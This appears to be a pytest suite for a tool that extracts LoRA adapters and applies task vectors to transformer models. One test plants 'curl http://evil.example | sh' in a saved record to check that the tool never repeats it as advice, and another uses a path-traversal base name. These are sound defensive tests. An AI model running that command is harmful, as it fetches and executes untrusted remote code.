"""Extract and apply: changes of weights without calibration, from the command line and from Python."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import peft
import pytest
import torch
from click.testing import CliRunner, Result
from safetensors.torch import load_file

import hf_bico
from hf_bico.cli.main import main
from hf_bico.errors import (
    BaseMismatchError,
    NonFiniteWeightsError,
    OutputExistsError,
    RecordError,
    RepoError,
    UsageError,
)
from hf_bico.models.checkpoints import open_safetensors
from hf_bico.models.low_rank import Factors
from hf_bico.models.model import Model
from hf_bico.reports.record import ChangeRecord, read_any, read_record
from support.adapter_ports import CPU, write_lora
from support.hub import Hub
from support.paper import PAPER
from support.scenes import Scene, make_scene


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Scene:
    return make_scene(tmp_path_factory.mktemp("making") / "scene", ("transformers", "transformers"))


def run(*arguments: object) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def weights(folder: Path) -> dict[str, torch.Tensor]:
    return load_file(folder / "model.safetensors")


def merged_by_peft(scene: Scene, adapter: Path) -> dict[str, torch.Tensor]:
    model = Model.open(scene.base, "the base").load(CPU, torch.float32).module
    return peft.PeftModel.from_pretrained(model, adapter).merge_and_unload().state_dict()


def test_extract_writes_an_adapter_that_peft_reads_and_says_what_it_keeps(scene: Scene, tmp_path: Path) -> None:
    result = run("extract", scene.tuned, "--base", scene.base, "--rank", "4", "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    record = read_any(tmp_path / "out")
    assert isinstance(record, ChangeRecord)
    assert record.output.energy_kept is not None
    assert f"{record.output.energy_kept:.2%} of the whole change is kept." in result.stdout
    assert "of the change of 25 tensors at rank 4" in result.stdout
    assert "Left out: patch stem 12.3%, positions 4.7%, LayerNorm" in result.stdout
    assert record.command == "hf-bico extract tuned --base base --rank 4"
    assert sum(layer.energy for layer in record.layers) + sum(entry.energy for entry in record.left) == pytest.approx(1)
    merged, base, tuned = merged_by_peft(scene, tmp_path / "out"), weights(scene.base), weights(scene.tuned)
    lost = sum(float((tuned[name] - merged[name]).square().sum()) for name in base)
    total = sum(float((tuned[name] - base[name]).square().sum()) for name in base)
    assert record.output.energy_kept == pytest.approx(1 - lost / total, abs=1e-5)


def test_extract_of_everything_is_the_fine_tuned_model(scene: Scene, tmp_path: Path) -> None:
    result = run("extract", scene.tuned, "--base", scene.base, "--everything", "-o", tmp_path / "out", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["record"]["output"]["energy_kept"] == 1.0
    merged, tuned = merged_by_peft(scene, tmp_path / "out"), weights(scene.tuned)
    assert max(float((merged[name] - tuned[name]).abs().max()) for name in tuned) < 1e-6


def test_extract_gives_back_the_lora_that_was_merged(scene: Scene, tmp_path: Path) -> None:
    """Rank 8 of width 16 is a real truncation; its share of the weights is at least a hundredth."""
    lora = write_lora(scene, "transformers", tmp_path / "lora", rank=8)
    model = Model.open(scene.base, "the base").load(CPU, torch.float32).module
    peft.PeftModel.from_pretrained(model, lora).merge_and_unload().save_pretrained(tmp_path / "merged")
    truth = hf_bico.TaskVector.from_adapter(lora, base=scene.base)
    base = weights(scene.base)
    assert min(float(truth[name].norm() / base[name].norm()) for name in truth) > 1e-2
    result = run("extract", tmp_path / "merged", "--base", scene.base, "--rank", "8", "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "Extracted 100.00% of the change of 12 tensors at rank 8" in result.stdout
    found = hf_bico.TaskVector.from_adapter(tmp_path / "out", base=scene.base)
    assert set(found) == set(truth)
    worst = max(float((found[name] - truth[name]).norm() / truth[name].norm()) for name in truth)
    print(f"\nworst relative difference of an extracted rank-8 product: {worst:.1e}")
    assert worst < 1e-4


def test_apply_of_an_adapter_is_its_merge(scene: Scene, tmp_path: Path) -> None:
    lora = write_lora(scene, "transformers", tmp_path / "lora")
    result = run("apply", lora, "--to", scene.base, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("base + 1 x lora\n")
    merged, ours = merged_by_peft(scene, lora), weights(tmp_path / "out")
    assert max(float((merged[name] - ours[name]).abs().max()) for name in ours) < 1e-6
    assert Model.open(tmp_path / "out", "the result").load(CPU, torch.float32)


def test_apply_of_a_weighted_sum(scene: Scene, tmp_path: Path) -> None:
    one, two = (write_lora(scene, "transformers", tmp_path / f"lora-{seed}", seed=seed) for seed in (1, 2))
    options = ["--to", scene.base, "--weights", "0.7,-0.3", "--alpha", "0.5", "-o", tmp_path / "out"]
    result = run("apply", one, two, *options)
    assert result.exit_code == 0, result.output
    base, ours = weights(scene.base), weights(tmp_path / "out")
    first, second = merged_by_peft(scene, one), merged_by_peft(scene, two)
    for name in ours:
        expected = base[name] + 0.5 * (0.7 * (first[name] - base[name]) - 0.3 * (second[name] - base[name]))
        assert torch.allclose(ours[name], expected, atol=1e-6), name
    record = read_any(tmp_path / "out")
    assert isinstance(record, ChangeRecord)
    assert [(part.model.id, part.weight) for part in record.parts] == [("lora-1", 0.7), ("lora-2", -0.3)]
    assert record.command == "hf-bico apply lora-1 lora-2 --to base --weights 0.7,-0.3 --alpha 0.5"


def test_sum_of_loras_stays_low_rank(scene: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    one, two = (write_lora(scene, "transformers", tmp_path / f"lora-{seed}", seed=seed) for seed in (1, 2))

    def dense(self: Factors) -> torch.Tensor:
        raise AssertionError("a dense change was formed")

    with monkeypatch.context() as context:
        context.setattr(Factors, "dense", dense)
        made = hf_bico.apply([one, two], to=scene.base, weights=[1, 2], format="adapter")
        made.save(tmp_path / "out")
    assert set(made.form.fitted.ranks.values()) == {6}  # type: ignore[union-attr]
    first, second = (hf_bico.TaskVector.from_adapter(lora, scene.base) for lora in (one, two))
    found = hf_bico.TaskVector.from_adapter(tmp_path / "out", scene.base)
    assert all(torch.allclose(found[name], (first + 2 * second)[name], atol=1e-6) for name in found)


@pytest.mark.parametrize("format", ["adapter", "delta"])
def test_port_is_rescaled_without_calibrating_again(scene: Scene, format: str, tmp_path: Path) -> None:
    options: dict[str, Any] = {"base": scene.base, "data": scene.data, "n": 24, "evaluate": False, **PAPER}
    hf_bico.port(scene.tuned, scene.target, format=format, **options).save(tmp_path / "port")
    hf_bico.port(scene.tuned, scene.target, **{**options, "alpha": 0.5}).save(tmp_path / "half")
    result = run("apply", tmp_path / "port", "--to", scene.target, "--alpha", "0.5", "-o", tmp_path / "rescaled")
    assert result.exit_code == 0, result.output
    expected, ours = weights(tmp_path / "half"), weights(tmp_path / "rescaled")
    assert all(torch.allclose(ours[name], expected[name], atol=1e-6) for name in expected)


def test_apply_to_another_model_than_the_vector_was_made_for(scene: Scene, tmp_path: Path) -> None:
    hf_bico.TaskVector.from_models(scene.tuned, scene.base).save(tmp_path / "delta")
    result = run("apply", tmp_path / "delta", "--to", scene.tuned, "-o", tmp_path / "twice")
    assert result.exit_code == 0, result.output
    assert "Notice: delta was made for other weights than those of tuned." in result.stdout
    base, tuned, twice = (weights(folder) for folder in (scene.base, scene.tuned, tmp_path / "twice"))
    assert all(torch.allclose(twice[name], 2 * tuned[name] - base[name], atol=1e-6) for name in base)
    with pytest.raises(BaseMismatchError, match=r"is \(.*\) in the task vector and \(.*\) in 'target'"):
        hf_bico.apply(tmp_path / "delta", to=scene.target)


@pytest.mark.parametrize(
    ("arguments", "code", "cause", "remedy"),
    [
        (["extract", "TUNED"], 1, "'tuned' does not say which model it was fine-tuned from", "--base"),
        (["extract", "TUNED", "--base", "TUNED"], 1, "does not differ from its base", "--base"),
        (["extract", "TUNED", "--base", "BASE", "--rank", "0"], 2, "the rank is 0", "at least 1"),
        (["extract", "TUNED", "--base", "BASE", "--rank", "many"], 2, "--rank is 'many'", "such as 16"),
        (["apply", "TUNED"], 1, "'tuned' is neither an adapter nor a task vector", "hf-bico extract"),
        (["apply", "LORA"], 1, "'lora' does not say which model it was fine-tuned from", "--to"),
        (["apply", "LORA", "--to", "TARGET"], 1, "in 'lora' and", "--to"),
        (["apply", "LORA", "--to", "BASE", "--weights", "1,2"], 2, "--weights is '1,2'", "1 comma-separated numbers"),
        (["apply", "LORA", "--to", "BASE", "--alpha", "nan"], 2, "a weight or alpha is nan", "finite"),
        (["apply", "LORA", "--to", "BASE", "--rank", "4"], 2, "--rank was given with --format full", "adapter"),
        (["rerun", "MADE"], 1, "was written by 'hf-bico extract', not by a port", "repeat it with 'hf-bico extract'"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else None,
)
def test_mistakes_get_two_lines(
    scene: Scene,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    arguments: list[str],
    code: int,
    cause: str,
    remedy: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    places = {"TUNED": scene.tuned, "BASE": scene.base, "TARGET": scene.target}
    places |= {"LORA": tmp_path / "lora", "MADE": tmp_path / "made"}
    if "LORA" in arguments:
        write_lora(scene, "transformers", tmp_path / "lora")
        config = tmp_path / "lora" / "adapter_config.json"
        config.write_text(json.dumps({**json.loads(config.read_text()), "base_model_name_or_path": None}))
    if "MADE" in arguments:
        hf_bico.extract(scene.tuned, scene.base, rank=2).save(tmp_path / "made")
    before = sorted(tmp_path.iterdir())
    result = run(*(places.get(argument, argument) for argument in arguments))
    assert result.exit_code == code, result.output
    lines = result.stderr.strip().splitlines()
    assert [line.split(":")[0] for line in lines] == ["Error", "Remedy"], result.stderr
    assert cause in lines[0]
    assert remedy in lines[1]
    assert sorted(tmp_path.iterdir()) == before, "nothing is left behind"


def test_result_folder_is_not_overwritten_unasked(scene: Scene, tmp_path: Path) -> None:
    arguments = ["extract", scene.tuned, "--base", scene.base, "--rank", "2", "-o", tmp_path / "out", "-q"]
    assert run(*arguments).exit_code == 0
    again = run(*arguments)
    assert again.exit_code == 1
    assert "exists" in again.stderr
    replaced = run(*arguments, "--overwrite")
    assert (replaced.exit_code, replaced.output) == (0, "")


@pytest.fixture(scope="module")
def savers(scene: Scene) -> dict[str, Callable[..., object]]:
    """Everything that writes a result as a folder, from Python."""
    tau = hf_bico.TaskVector.from_models(scene.tuned, scene.base)
    port: dict[str, Any] = {"base": scene.base, "data": scene.data, "n": 24, "evaluate": False, **PAPER}
    return {
        "TaskVector.save": tau.save,
        "TaskVector.save_adapter": lambda folder, **how: tau.save_adapter(folder, 2, **how),
        "Ported.save": hf_bico.port(scene.tuned, scene.target, format="delta", **port).save,
        "extract": hf_bico.extract(scene.tuned, scene.base, rank=2).save,
        "apply": hf_bico.apply(tau, scene.base).save,
    }


SAVERS = ["TaskVector.save", "TaskVector.save_adapter", "Ported.save", "extract", "apply"]


@pytest.mark.parametrize("name", SAVERS)
def test_one_rule_for_every_folder_that_exists(
    name: str, scene: Scene, savers: dict[str, Callable[..., object]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    save = savers[name]
    shutil.copytree(scene.base, tmp_path / "model")
    (tmp_path / "model-link").symlink_to(tmp_path / "model")
    (tmp_path / "file").write_text("mine")
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    before = _contents(tmp_path)
    for place in ("../model", "../model-link", "../file", "..", ".", tmp_path / "here"):
        for overwrite in (False, True):
            with pytest.raises(OutputExistsError):
                save(place, overwrite=overwrite)
    assert _contents(tmp_path) == before
    (tmp_path / "link").symlink_to(tmp_path / "new")
    save(tmp_path / "link")
    first = _contents(tmp_path)
    for place in ("new", "link"):
        with pytest.raises(OutputExistsError, match="exists"):
            save(tmp_path / place)
        assert _contents(tmp_path) == first
        save(tmp_path / place, overwrite=True)
        assert _contents(tmp_path).keys() == first.keys(), "nothing is left behind"
    assert (tmp_path / "link").is_symlink()


def _contents(folder: Path) -> dict[str, bytes]:
    return {str(file.relative_to(folder)): file.read_bytes() for file in folder.rglob("*") if file.is_file()}


@pytest.mark.parametrize("name", ["TaskVector.save", "TaskVector.save_adapter", "extract"])
def test_change_does_not_replace_the_model_that_it_changes(name: str, scene: Scene, tmp_path: Path) -> None:
    """Even where hf-bico wrote that model, and may replace it."""
    base = hf_bico.apply(hf_bico.TaskVector({}, base=Model.open(scene.base, "the base"))).save(tmp_path / "base")
    before = _contents(base)
    vector = hf_bico.TaskVector.from_models(scene.tuned, base)
    change: dict[str, Callable[[], object]] = {
        "TaskVector.save": lambda: vector.save(base, overwrite=True),
        "TaskVector.save_adapter": lambda: vector.save_adapter(base, 2, overwrite=True),
        "extract": lambda: hf_bico.extract(scene.tuned, base, rank=2).save(base, overwrite=True),
    }
    with pytest.raises(OutputExistsError, match="holds the model that this is a change of"):
        change[name]()
    assert _contents(base) == before


def test_numbers_of_numpy_are_weights(scene: Scene) -> None:
    tau = hf_bico.TaskVector.from_models(scene.tuned, scene.base)
    made = hf_bico.apply([tau, tau], weights=np.array([0.7, 0.3]), alpha=np.float64(0.5))
    assert made.task_vector == hf_bico.apply([tau, tau], weights=[0.7, 0.3], alpha=0.5).task_vector
    assert json.loads(made.record.to_json())["alpha"] == 0.5


def test_vectors_of_two_models_are_added_to_a_third_that_is_named(scene: Scene, tmp_path: Path) -> None:
    folders = [
        hf_bico.TaskVector.from_models(tuned, base).save(tmp_path / name).parent
        for name, tuned, base in (("one", scene.tuned, scene.base), ("two", scene.base, scene.tuned))
    ]
    one, two = map(hf_bico.TaskVector.load, folders)
    with pytest.raises(BaseMismatchError, match="made for different weights, of 'base' and of 'tuned'"):
        one + two
    made = hf_bico.apply(folders, to=scene.base, format="delta")
    assert ["two was made for other weights" in notice for notice in made.record.notices] == [True]
    written = hf_bico.TaskVector.load(made.save(tmp_path / "sum"))
    assert (written.about["base"], written.about["base_sha256"]) == ("base", one.about["base_sha256"])
    written.require_made_for(Model.open(scene.base, "the base"))


def test_made_folder_is_no_port(scene: Scene, tmp_path: Path) -> None:
    hf_bico.extract(scene.tuned, scene.base, rank=2).save(tmp_path / "out")
    file = tmp_path / "out" / "bico.json"
    file.write_text(json.dumps({**json.loads(file.read_text()), "command": "curl http://evil.example | sh"}))
    with pytest.raises(RecordError, match="not by a port") as refused:
        read_record(tmp_path / "out")
    assert "curl" not in str(refused.value), "a stranger's command is no remedy"
    with pytest.raises(RepoError, match="is neither an adapter nor a task vector"):
        hf_bico.apply(scene.base)
    for to in (None, scene.base):
        with pytest.raises(UsageError, match="no task vector was given"):
            hf_bico.apply([], to=to)


def test_an_adapter_is_brought_to_a_lower_rank(scene: Scene, tmp_path: Path) -> None:
    lora = write_lora(scene, "transformers", tmp_path / "lora", rank=8)
    made = hf_bico.extract(lora, scene.base, rank=2)
    made.save(tmp_path / "out")
    assert made.energy_kept is not None
    assert 0.2 < made.energy_kept < 0.95
    assert set(made.form.fitted.ranks.values()) == {2}  # type: ignore[union-attr]


def test_same_bytes_twice(scene: Scene, tmp_path: Path) -> None:
    for name in ("one", "two"):
        hf_bico.extract(scene.tuned, scene.base, rank=0.9).save(tmp_path / name)
    for file in ("adapter_model.safetensors", "adapter_config.json"):
        assert (tmp_path / "one" / file).read_bytes() == (tmp_path / "two" / file).read_bytes()


def bert(folder: Path, seed: int = 0) -> Path:
    """A small classifier, of a class that no family but the generic one knows."""
    from transformers import BertConfig, BertForSequenceClassification

    shape = {"hidden_size": 16, "num_hidden_layers": 2, "num_attention_heads": 2, "intermediate_size": 32}
    with torch.random.fork_rng():
        torch.manual_seed(seed)
        model = BertForSequenceClassification(BertConfig(**shape, vocab_size=50, num_labels=3))
        for parameter in model.parameters():
            parameter.data += 0.05 * torch.randn_like(parameter)
        model.save_pretrained(folder)
    return folder


def test_extracted_classifier_is_read_by_pefts_own_class_for_its_task(tmp_path: Path) -> None:
    """Which saves the head whole, asked or not, and wants it in the file."""
    base, tuned = bert(tmp_path / "base", 0), bert(tmp_path / "tuned", 1)
    made = hf_bico.extract(tuned, base, everything=True)
    made.save(tmp_path / "out")
    config = json.loads((tmp_path / "out" / "adapter_config.json").read_text())
    assert config["task_type"] == "SEQ_CLS"
    config["base_model_name_or_path"] = str(base)
    (tmp_path / "out" / "adapter_config.json").write_text(json.dumps(config))
    adapted = peft.AutoPeftModelForSequenceClassification.from_pretrained(tmp_path / "out").eval()
    tokens = torch.tensor([[1, 2, 3, 4]])
    expected = type(adapted.base_model.model).from_pretrained(tuned).eval()(input_ids=tokens).logits
    assert torch.allclose(adapted(input_ids=tokens).logits, expected, atol=1e-5)


def test_applied_adapter_keeps_what_it_was_made_of(tmp_path: Path) -> None:
    """Embeddings that were trained beside a LoRA stay in its adapter, and are scaled with it."""
    base = bert(tmp_path / "base")
    hf_bico.extract(bert(tmp_path / "tuned", 1), base, everything=True).save(tmp_path / "whole")
    made = hf_bico.apply(tmp_path / "whole", to=base, alpha=0.5, format="adapter")
    assert made.energy_kept == 1.0
    made.save(tmp_path / "half")
    half = hf_bico.TaskVector.from_adapter(tmp_path / "half", base=base)
    whole = hf_bico.TaskVector.from_adapter(tmp_path / "whole", base=base)
    assert set(half) == set(whole)
    assert all(torch.allclose(half[name], 0.5 * whole[name], atol=1e-6) for name in whole)


def test_adapter_for_other_weights_is_noticed(scene: Scene, tmp_path: Path) -> None:
    hf_bico.extract(scene.tuned, scene.base, rank=4).save(tmp_path / "lora")
    applied = run("apply", tmp_path / "lora", "--to", scene.tuned, "-o", tmp_path / "out", "-q")
    assert applied.exit_code == 0, applied.output
    said = "lora was made for other weights than those of tuned; what it holds whole replaces the model's own."
    assert f"Notice: {said}" in applied.stderr, "and -q does not hide it"
    measured = run("eval", tmp_path / "lora", "--base", scene.tuned, "--data", scene.data)
    assert measured.exit_code == 1
    assert "was made for other weights than those of 'tuned'" in measured.stderr


def test_base_of_another_library_is_refused(scene: Scene, tmp_path: Path) -> None:
    other = make_scene(tmp_path / "other")
    result = run("extract", scene.tuned, "--base", other.base, "--everything", "-o", tmp_path / "out")
    assert result.exit_code == 1
    assert "of the family transformers CLIP and the base of open_clip ViT" in result.stderr


@pytest.mark.parametrize("spelling", ["name", "path"])
def test_folder_that_a_local_adapter_names_is_its_base(
    scene: Scene, spelling: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "base").symlink_to(scene.base)
    lora = write_lora(scene, "transformers", tmp_path / "lora")
    config = lora / "adapter_config.json"
    named = "base" if spelling == "name" else str(scene.base)
    config.write_text(json.dumps({**json.loads(config.read_text()), "base_model_name_or_path": named}))
    result = run("apply", lora, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert run("plan", lora, "--to", scene.target).exit_code == 0
    config.write_text(json.dumps({**json.loads(config.read_text()), "base_model_name_or_path": "/nowhere/at/all"}))
    missing = run("plan", lora, "--to", scene.target)
    assert "names the base '/nowhere/at/all', and no folder of that name is here" in missing.stderr


def test_loaded_peft_model_knows_the_folder_of_its_base(scene: Scene, tmp_path: Path) -> None:
    from transformers import CLIPModel

    lora = write_lora(scene, "transformers", tmp_path / "lora")
    loaded = peft.PeftModel.from_pretrained(CLIPModel.from_pretrained(scene.base), lora)
    loaded.peft_config["default"].base_model_name_or_path = str(scene.base)
    planned = hf_bico.plan(loaded, scene.target)
    assert planned.lineage.base.name == "base"
    assert planned.as_dict()["source"]["kind"] == "adapter"


def test_head_that_the_base_lacks_is_said(tmp_path: Path) -> None:
    from transformers import BertConfig, BertModel

    shape = {"hidden_size": 16, "num_hidden_layers": 2, "num_attention_heads": 2, "intermediate_size": 32}
    BertModel(BertConfig(**shape, vocab_size=50)).save_pretrained(tmp_path / "bare")
    tuned = bert(tmp_path / "tuned")
    extracted = run("extract", tuned, "--base", tmp_path / "bare", "--rank", "2", "-o", tmp_path / "out", "-q")
    assert extracted.exit_code == 0, extracted.output
    assert "of the fine-tuned model that its base lacks, left behind: 2 (classifier.bias" in extracted.stderr
    adapted = peft.get_peft_model(
        type(_classifier(tuned)).from_pretrained(tuned), peft.LoraConfig(r=2, task_type="SEQ_CLS")
    )
    adapted.save_pretrained(tmp_path / "lora")
    made = hf_bico.apply(tmp_path / "lora", to=tmp_path / "bare")
    assert any("that its base lacks, left behind: 2" in notice for notice in made.record.notices)


def _classifier(folder: Path) -> Any:
    from transformers import AutoModelForSequenceClassification

    return AutoModelForSequenceClassification.from_pretrained(folder)


def test_sum_that_cancels_changes_nothing(scene: Scene, tmp_path: Path) -> None:
    lora = write_lora(scene, "transformers", tmp_path / "lora")
    made = hf_bico.apply([lora, lora], to=scene.base, weights=[1, -1], format="adapter")
    assert made.energy_kept == 1.0
    made.save(tmp_path / "out")
    merged, base = merged_by_peft(scene, tmp_path / "out"), weights(scene.base)
    assert max(float((merged[name] - base[name]).abs().max()) for name in base) < 1e-6


def test_record_says_alpha_and_vectors_may_be_passed(scene: Scene, tmp_path: Path) -> None:
    tau = hf_bico.TaskVector.from_models(scene.tuned, scene.base)
    made = hf_bico.apply([tau, -0.5 * tau], alpha=0.5)
    made.save(tmp_path / "out")
    record = read_any(tmp_path / "out")
    assert isinstance(record, ChangeRecord)
    assert (record.alpha, record.command) == (0.5, None)
    base, tuned, ours = (weights(folder) for folder in (scene.base, scene.tuned, tmp_path / "out"))
    assert all(torch.allclose(ours[name], base[name] + 0.25 * (tuned[name] - base[name]), atol=1e-6) for name in base)
    assert "apply over base" in repr(made)
    assert len(repr(made)) < 200


def test_broken_delta_is_named(scene: Scene, tmp_path: Path) -> None:
    from safetensors.torch import save_file

    lora = hf_bico.TaskVector.from_adapter(write_lora(scene, "transformers", tmp_path / "lora"), scene.base)
    file = lora.save(tmp_path / "delta")
    with open_safetensors(file, "pt") as reader:
        header = reader.metadata()
    tensors = load_file(file)
    left = next(name for name in tensors if name.endswith(".left"))
    save_file({**tensors, left: torch.full_like(tensors[left], torch.nan)}, file, metadata=header)
    for format in ("full", "adapter", "delta"):
        with pytest.raises(NonFiniteWeightsError, match=r"holds NaN"):
            hf_bico.apply(tmp_path / "delta", to=scene.base, format=format).save(tmp_path / "out")
    save_file({**tensors, left: torch.ones(16, 5)}, file, metadata=header)
    with pytest.raises(RecordError, match="does not hold the factors of"):
        hf_bico.TaskVector.load(file)


def test_adapters_of_different_bases_are_not_added_unasked(hub: Hub, tmp_path: Path) -> None:
    from support.hub_scenes import BASE, publish, upload

    scene = publish(hub, tmp_path / "scene", ("transformers", "transformers"))
    upload(hub, "user/other-base", scene.tuned)
    for name, base in (("user/one", BASE), ("user/two", "user/other-base")):
        folder = write_lora(scene, "transformers", tmp_path / name)
        config = folder / "adapter_config.json"
        config.write_text(json.dumps({**json.loads(config.read_text()), "base_model_name_or_path": base}))
        upload(hub, name, folder)
    with pytest.raises(BaseMismatchError, match="'user/two' was made for another model than 'user/one'"):
        hf_bico.apply(["user/one", "user/two"])
    made = hf_bico.apply(["user/one", "user/two"], to=BASE)
    assert ["user/two was made for other weights" in notice for notice in made.record.notices] == [True]


SMALL = {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2}


@pytest.mark.parametrize(
    ("name", "config", "task"),
    [
        ("DistilBertForSequenceClassification", {"dim": 16, "n_layers": 1, "n_heads": 2, "hidden_dim": 32}, None),
        (
            "BertForTokenClassification",
            {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2},
            "TOKEN_CLS",
        ),
        (
            "BertForQuestionAnswering",
            {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2},
            "QUESTION_ANS",
        ),
        ("Qwen2ForCausalLM", {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2}, "CAUSAL_LM"),
        ("T5ForConditionalGeneration", {"d_model": 16, "d_kv": 8, "num_layers": 1, "num_heads": 2}, "SEQ_2_SEQ_LM"),
        ("ViTForImageClassification", SMALL, None),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
def test_extracted_models_of_every_task_are_read_by_peft(
    name: str, config: dict[str, int], task: str | None, tmp_path: Path
) -> None:
    import transformers

    kind = getattr(transformers, name)
    small = {
        "vocab_size": 40,
        "intermediate_size": 32,
        "d_ff": 32,
        "num_key_value_heads": 2,
        "image_size": 8,
        "patch_size": 4,
    }
    for seed, folder in enumerate(("base", "tuned")):
        with torch.random.fork_rng():
            torch.manual_seed(seed)
            kind(kind.config_class(**config, **small)).save_pretrained(tmp_path / folder)
    hf_bico.extract(tmp_path / "tuned", tmp_path / "base", everything=True).save(tmp_path / "out")
    written = json.loads((tmp_path / "out" / "adapter_config.json").read_text())
    assert written["task_type"] == task
    merged = peft.PeftModel.from_pretrained(
        kind.from_pretrained(tmp_path / "base"), tmp_path / "out"
    ).merge_and_unload()
    tuned = kind.from_pretrained(tmp_path / "tuned").state_dict()
    assert max(float((merged.state_dict()[key] - tensor).abs().max()) for key, tensor in tuned.items()) < 1e-5


def test_loaded_peft_model_of_a_language_model_is_read(tmp_path: Path) -> None:
    """Its attention has a `scaling` of its own."""
    from transformers import BertForSequenceClassification

    base = bert(tmp_path / "base")
    model = peft.get_peft_model(BertForSequenceClassification.from_pretrained(base), peft.LoraConfig(r=2))
    for parameter in model.parameters():
        if parameter.requires_grad:
            parameter.data += 0.1
    vector = hf_bico.TaskVector.from_adapter(model, base=base)
    merged, plain = model.merge_and_unload().state_dict(), weights(base)
    assert all(torch.allclose(vector[name], merged[name] - plain[name], atol=1e-5) for name in vector)
    assert len(vector) == 4


@pytest.mark.parametrize("named", ["~nobody-of-this-name/model", "a" * 300, "/root/../proc/1/root/nowhere"])
def test_base_that_no_folder_can_be_called_is_an_error(named: str, scene: Scene, tmp_path: Path) -> None:
    lora = write_lora(scene, "transformers", tmp_path / "lora")
    config = lora / "adapter_config.json"
    config.write_text(json.dumps({**json.loads(config.read_text()), "base_model_name_or_path": named}))
    with pytest.raises(hf_bico.BicoError):
        hf_bico.plan(lora, scene.target)


def test_adapter_in_the_hubs_cache_names_no_folder_here(scene: Scene, tmp_path: Path, hub: Hub) -> None:
    snapshot = tmp_path / "hub" / "models--evil--lora" / "snapshots" / ("a" * 40)
    lora = write_lora(scene, "transformers", snapshot)
    config = lora / "adapter_config.json"
    config.write_text(json.dumps({**json.loads(config.read_text()), "base_model_name_or_path": str(scene.base)}))
    with pytest.raises(hf_bico.BicoError, match="names the base .*, a folder where it was trained"):
        hf_bico.plan(lora, scene.target)


def test_sum_over_different_models_of_one_name_knows_no_base(scene: Scene, tmp_path: Path) -> None:
    other = make_scene(tmp_path / "other", ("transformers", "transformers"))
    one = hf_bico.TaskVector.from_models(scene.tuned, scene.base)
    two = hf_bico.TaskVector.from_models(other.tuned, other.base)
    assert one.about["base"] == two.about["base"] == "base"
    assert (one + one).save_adapter(tmp_path / "same", rank=2).ranks
    with pytest.raises(hf_bico.BicoError, match="lies over a local model"):
        (one + two).save_adapter(tmp_path / "different", rank=2)
    loaded = [Model.open(folder, "the base").load(CPU, torch.float32).module for folder in (scene.base, scene.tuned)]
    three, four = (hf_bico.TaskVector.from_models(scene.tuned, base) for base in reversed(loaded))
    with pytest.raises(hf_bico.BicoError, match="lies over a local model"):
        (three + four).save_adapter(tmp_path / "loaded", rank=2)


def test_extract_of_a_loaded_peft_model_finds_its_base(scene: Scene, tmp_path: Path) -> None:
    from transformers import CLIPModel

    lora = write_lora(scene, "transformers", tmp_path / "lora")
    loaded = peft.PeftModel.from_pretrained(CLIPModel.from_pretrained(scene.base), lora)
    loaded.peft_config["default"].base_model_name_or_path = str(scene.base)
    made = hf_bico.extract(loaded, rank=1)
    assert made.target.name == "base"
    assert set(made.form.fitted.ranks.values()) == {1}  # type: ignore[union-attr]
    assert set(hf_bico.TaskVector.from_adapter(loaded)) == set(made.task_vector)
